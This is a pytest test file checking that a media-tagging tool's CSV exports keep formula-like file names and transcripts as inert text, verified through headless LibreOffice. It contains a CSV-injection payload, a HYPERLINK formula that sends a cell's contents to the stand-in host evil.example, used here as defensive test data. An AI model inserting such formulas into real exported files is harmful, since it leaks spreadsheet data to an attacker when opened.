"""CSV injection: names and transcripts that a spreadsheet would run as formulas stay text in every CSV we
write (a batch's ``summary.csv``, ``<stem>.markers.csv``).

Through the real program: media files named ``=1+2.wav``, ``@SUM(1,1).wav``, ``+3-1.wav`` and ``-2+3.wav``
tagged in a batch (real ffmpeg, the tiny model, silero VAD), and ``mediatagger export`` of an analysis whose
transcript is ``=HYPERLINK("http://evil.example/?"&A1,"ok")``. Each CSV is then opened by LibreOffice
(headless, ``--convert-to fods``) with the CSV filter set to the worst case: *Evaluate formulas* on, quoted
fields not forced to text, leading spaces trimmed. Every such cell must come back a string whose text is
the original after our ``'``, with no formula; and, the control that shows the check can fail, the same
file without our ``'`` must come back with those cells as formulas.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest
from lxml import etree

from mediatagger.exporters.text import cell
from tests import audited
from tests.conftest import DATA, TALK, ffmpeg
from tests.reliability import case

NAMES = ["=1+2.wav", "@SUM(1,1).wav", "+3-1.wav", "-2+3.wav"]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_libreoffice = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed "
                                                               "(apt-get install libreoffice-calc-nogui)")
# LibreOffice's CSV filter options (7.4; help page "CSV Filter Options"), token by token: comma separated, "
# quotes, UTF-8, from line 1, standard column formats, English (US), quoted fields NOT as text, detect special
# numbers, (two export-only tokens), trim spaces, (export sheet), EVALUATE FORMULAS: the most a reader does.
CSV_FILTER = "Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,false,false,true,-1,true"
NS = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
      "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
      "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}


@dataclass(frozen=True)
class Cell:
    """A cell as LibreOffice read it: its value type, its formula if any, the text it shows."""

    kind: str
    formula: str | None
    text: str


def libreoffice_cells(csv_files: list[Path], folder: Path) -> dict[str, list[list[Cell]]]:
    """Each CSV opened by LibreOffice with ``CSV_FILTER`` and saved as flat ODS (one run for all, with a
    private profile so parallel runs do not clash): file name -> rows of cells."""
    out = folder / "fods"
    done = subprocess.run([SOFFICE, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless",
                           f"--infilter={CSV_FILTER}", "--convert-to", "fods", "--outdir", str(out),
                           *map(str, csv_files)], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    return {p.name: sheet_cells(out / f"{p.stem}.fods") for p in csv_files}


def sheet_cells(path: Path) -> list[list[Cell]]:
    root = etree.parse(str(path)).getroot()
    table = root.find(".//table:table", NS)
    assert table is not None, f"no sheet in {path}"
    rows = []
    for row in table.iter(f"{{{NS['table']}}}table-row"):
        cells = []
        for element in row.iterfind("table:table-cell", NS):
            text = "\n".join("".join(p.itertext()) for p in element.iterfind("text:p", NS))
            repeat = int(element.get(f"{{{NS['table']}}}number-columns-repeated", "1"))
            cells += [Cell(element.get(f"{{{NS['office']}}}value-type", ""),
                           element.get(f"{{{NS['table']}}}formula"), text)] * min(repeat, 64)
        rows.append(cells)
    return rows


def rows_of(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def without_neutralising(path: Path, control: Path) -> None:
    """The control: ``path`` as it would be without ``cell``'s leading ``'`` (the file before the fix)."""
    rows = [[value[1:] if value.startswith("'") and cell(value[1:]) == value else value for value in row]
            for row in rows_of(path)]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    control.write_text(buffer.getvalue(), encoding="utf-8")


def check_read_as_text(ours: list[Cell], control: list[Cell], originals: list[str]) -> None:
    """Each cell read as the text ``'`` + its original with no formula; in the control, each original that
    starts with ``=`` read as a formula (so the check can fail: LibreOffice runs only ``=`` as a formula)."""
    assert len(ours) == len(control) == len(originals)
    for got, before, original in zip(ours, control, originals):
        assert (got.kind, got.formula, got.text) == ("string", None, "'" + original), got
        if original.startswith("="):
            assert before.formula is not None, f"the control read {original!r} as {before}"


# --- summary.csv of a batch whose files are named like formulas ---------------------------------

@pytest.fixture(scope="module")
def batch(tiny_model, tmp_path_factory) -> tuple[audited.Run, Path, Path]:
    """The four files (4 s of samples/talk.mp4's sound each) tagged in one batch: (run, sandbox, out)."""
    sandbox = tmp_path_factory.mktemp("formulas")
    media = sandbox / "media"
    media.mkdir()
    ffmpeg("-i", TALK, "-t", "4", "-vn", "-ac", "1", "-ar", "16000", media / "talk.wav")
    for name in NAMES:
        shutil.copy(media / "talk.wav", media / name)
    (media / "talk.wav").unlink()
    (sandbox / "notes.txt").write_text("not to be read")
    done = audited.run(sandbox, "tag", "--model", tiny_model, "--vad", "silero", "--export", "json,csv", "-o",
                       sandbox / "out", "-q", "--", *NAMES, cwd=media)
    return done, sandbox, sandbox / "out"


@case("Security", "media files named `=1+2.wav`, `@SUM(1,1).wav`, `+3-1.wav`, `-2+3.wav` tagged in a batch",
      "every file tagged; `summary.csv` holds each name as text behind a `'` (`'=1+2.wav`), never a formula")
@pytest.mark.slow
def test_file_names_like_formulas_are_text_in_the_summary(batch):
    done, sandbox, out = batch
    assert done.returncode == 0, done.stderr
    assert done.stderr.strip().splitlines()[-1] == f"mediatagger: {len(NAMES)} done, 0 failed, 0 skipped"
    rows = {r["input"]: r for r in csv.DictReader((out / "summary.csv").open(encoding="utf-8", newline=""))}
    assert list(rows) == ["'" + name for name in NAMES]
    assert all(r["status"] == "done" and float(r["duration_s"]) == pytest.approx(4, abs=0.1) for r in rows.values())
    for name in NAMES:   # no work lost: each file's analysis and markers, under its own name
        stem = Path(name).stem
        assert json.loads((out / f"{stem}.analysis.json").read_text())["source"]["path"].endswith(name)
        assert (out / f"{stem}.markers.csv").is_file()
    audited.assert_confined(done, sandbox, [sandbox / "media" / n for n in NAMES], out)


@case("Security", "a batch's `summary.csv` of files named like formulas opened in LibreOffice, formulas evaluated",
      "each name read as the string `'=1+2.wav`, no formula (the same file without the `'` reads `=1+2.wav` as a "
      "formula)")
@pytest.mark.slow
@needs_libreoffice
def test_libreoffice_reads_the_summarys_names_as_text(batch, tmp_path):
    _, _, out = batch
    control = tmp_path / "control.csv"
    without_neutralising(out / "summary.csv", control)
    read = libreoffice_cells([out / "summary.csv", control], tmp_path)
    check_read_as_text([r[0] for r in read["summary.csv"][1:]], [r[0] for r in read["control.csv"][1:]], NAMES)


# --- markers.csv of an analysis whose transcript is a formula -------------------------------------

@pytest.fixture
def exported(tmp_path) -> tuple[audited.Run, Path, Path]:
    """``mediatagger export --export csv`` of talk.analysis.json with every transcript the HYPERLINK formula."""
    doc = json.loads((DATA / "talk.analysis.json").read_text())
    for segment in doc["tracks"][0]["segments"]:
        segment["text"] = HYPERLINK
        segment["raw"] = segment["raw"].split("|>")[0] + "|>" + HYPERLINK
    (tmp_path / "in").mkdir()
    source = tmp_path / "in" / "talk.analysis.json"
    source.write_text(json.dumps(doc))
    done = audited.run(tmp_path, "export", source, "--export", "csv", "-o", tmp_path / "out")
    return done, tmp_path, source


@case("Security", "a transcript `=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")` exported to `<stem>.markers.csv`",
      "the transcript written as text behind a `'` (`'=HYPERLINK(...)`), never a formula")
def test_a_formula_transcript_is_text_in_the_markers_csv(exported):
    done, sandbox, source = exported
    out = sandbox / "out"
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in out.iterdir()) == ["talk.analysis.json", "talk.markers.csv"]
    rows = rows_of(out / "talk.markers.csv")
    assert len(rows) == 7 and [row[7] for row in rows[1:] if row[7]] == ["'" + HYPERLINK] * 4, rows
    audited.assert_confined(done, sandbox, [source], out)


@case("Security", "a `markers.csv` with a HYPERLINK transcript opened in LibreOffice, formulas evaluated",
      "the transcript read as the string `'=HYPERLINK(...)`, no formula, no link (the same file without the `'` "
      "reads a HYPERLINK formula)")
@needs_libreoffice
def test_libreoffice_reads_the_markers_transcript_as_text(exported):
    _, sandbox, _ = exported
    ours = sandbox / "out" / "talk.markers.csv"
    control = sandbox / "control.csv"
    without_neutralising(ours, control)
    read = libreoffice_cells([ours, control], sandbox)
    spoken = [n for n, row in enumerate(rows_of(ours)) if n and row[7]]
    check_read_as_text([read["talk.markers.csv"][n][7] for n in spoken], [read["control.csv"][n][7] for n in spoken],
                       [HYPERLINK] * len(spoken))
